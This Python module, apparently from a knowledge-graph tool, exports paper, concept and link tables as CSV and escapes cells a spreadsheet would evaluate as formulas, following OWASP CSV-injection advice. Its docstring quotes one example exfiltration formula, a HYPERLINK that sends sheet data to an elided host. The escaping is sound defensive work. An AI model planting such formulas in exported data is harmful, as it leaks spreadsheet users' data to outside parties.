"""CSV tables of a graph file for spreadsheets, pandas and datasette: paper–concept links, papers, and concepts with counts.

One table a file, as `csvs-to-sqlite`, datasette and `pandas.read_csv` expect: `kg export -f csv` writes
the links (one row per paper and concept it mentions, with the score and the evidence spans),
`--table papers` the papers (one row each, with authors, venue, DOI and subjects), `--table concepts` the concepts.
All come from one streamed parse of the graph file (or shard folder) by kg.graph.facts, the one reader,
asked for the evidence spans as well: a concept has the label here, and a link the score and the spans, that
every other command gives it. No SPARQL store is built. Columns are in `LINK_COLUMNS`, `PAPER_COLUMNS` and `CONCEPT_COLUMNS` (docs/serve.md describes them).

Titles, venues and labels come from whoever wrote the paper list or the scheme, and a spreadsheet evaluates
a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula:
`=HYPERLINK("http://…?"&A1,"click")` sends the sheet's data away when clicked. Such a cell is written with a
leading `'` (OWASP's advice on CSV injection), which a spreadsheet shows as text; a cell that is a number
(a negative score) stays the number it is.
"""

from __future__ import annotations

import csv
import io
import re
from collections import defaultdict
from dataclasses import dataclass
from pathlib import Path
from typing import IO

from kg.core.errors import UsageError
from kg.graph.facts import Facts, read_facts
from kg.graph.vocabulary import DCTERMS, FABIO, FOAF, RDFS, SKOS

TABLES = ("links", "papers", "concepts")
LINK_COLUMNS = ("paper_id", "paper", "title", "year", "venue", "concept", "label", "score", "subject", "mentions", "evidence")
PAPER_COLUMNS = ("paper_id", "paper", "title", "year", "venue", "authors", "doi", "subjects", "abstract")
CONCEPT_COLUMNS = ("concept", "label", "papers", "mentioned_in", "mentions", "broader")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may evaluate at the start of a cell (OWASP)
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def cell(value: object) -> object:
    """A value as a spreadsheet should read it: text it would evaluate gets a leading `'`; numbers are left alone."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


@dataclass(frozen=True)
class _Paper:
    """A paper's columns, as the Facts hold them."""

    identifier: str
    title: str
    year: str
    venue: str


def _papers(facts: Facts) -> dict[str, _Paper]:
    """Each paper's identifier, title (else its rdfs:label), year and venue (the venue's name, else its IRI)."""
    identifier = {resource: i for i, resource in facts.identifiers.items()}
    out = {}
    for paper in facts.papers:
        venue = facts.first(paper, DCTERMS + "isPartOf") or ""
        out[paper] = _Paper(identifier.get(paper, ""), facts.first(paper, DCTERMS + "title", RDFS + "label") or "",
                            facts.first(paper, FABIO + "hasPublicationYear") or "", _name(facts, venue))
    return out


def _name(facts: Facts, node: str) -> str:
    return facts.first(node, RDFS + "label", FOAF + "name") or node


def write_table(graph: str | Path, stream: IO[bytes], table: str = "links") -> int:
    """Write one CSV table of the graph file to a binary stream (UTF-8, a header row); return the number of data rows."""
    if table not in TABLES:
        raise UsageError(f"unknown table {table!r} (available: {', '.join(TABLES)})")
    facts = read_facts(graph, evidence=True)
    concepts = {c for c in facts.concepts if SKOS + "Concept" in facts.types.get(c, ())}
    labels, subjects_of, papers_ = facts.concepts, set(facts.subjects), _papers(facts)
    links = {key: e for key, e in facts.evidence.items() if key[1] in concepts and key[0] in papers_}
    text = io.TextIOWrapper(stream, encoding="utf-8", newline="")
    writer = csv.writer(text)
    rows = 0

    def write(values: tuple) -> None:
        writer.writerow([cell(v) for v in values])

    if table == "links":
        write(LINK_COLUMNS)
        order = {iri: i for i, iri in enumerate(papers_)}
        for (paper_iri, concept), e in sorted(links.items(), key=lambda kv: (order[kv[0][0]], -float(kv[1].score or 0), kv[0][1])):
            p = papers_[paper_iri]
            evidence = " | ".join(f"{where}[{a}:{b}] {exact}" for where, a, b, exact in e.spans)
            write((p.identifier, paper_iri, p.title, p.year, p.venue, concept, labels.get(concept, ""), e.score,
                   int((paper_iri, concept) in subjects_of), len(e.spans), evidence))
            rows += 1
    elif table == "papers":
        write(PAPER_COLUMNS)
        subjects: dict[str, list[str]] = defaultdict(list)
        for paper_iri, concept in facts.subjects:
            subjects[paper_iri].append(facts.label(concept))
        for paper_iri, p in papers_.items():
            if FABIO + "ResearchPaper" not in facts.types.get(paper_iri, ()):
                continue
            creators = facts.values.get(paper_iri, {}).get(DCTERMS + "creator", ())
            write((p.identifier, paper_iri, p.title, p.year, p.venue, "; ".join(_name(facts, a) for a in creators),
                   facts.dois.get(paper_iri, ""), "; ".join(sorted(subjects[paper_iri])), facts.abstracts.get(paper_iri, "")))
            rows += 1
    else:
        write(CONCEPT_COLUMNS)
        papers: dict[str, int] = defaultdict(int)
        for paper_iri, concept in facts.subjects:
            if paper_iri in papers_:
                papers[concept] += 1
        mentioned: dict[str, int] = defaultdict(int)
        mentions: dict[str, int] = defaultdict(int)
        for (_, concept), e in links.items():
            mentioned[concept] += 1
            mentions[concept] += len(e.spans)
        for concept in sorted(concepts, key=lambda c: (-papers[c], -mentioned[c], labels[c], c)):
            write((concept, labels[concept], papers[concept], mentioned[concept], mentions[concept],
                          " ".join(facts.broader.get(concept, ()))))
            rows += 1
    text.flush()
    text.detach()  # the caller owns the stream
    return rows
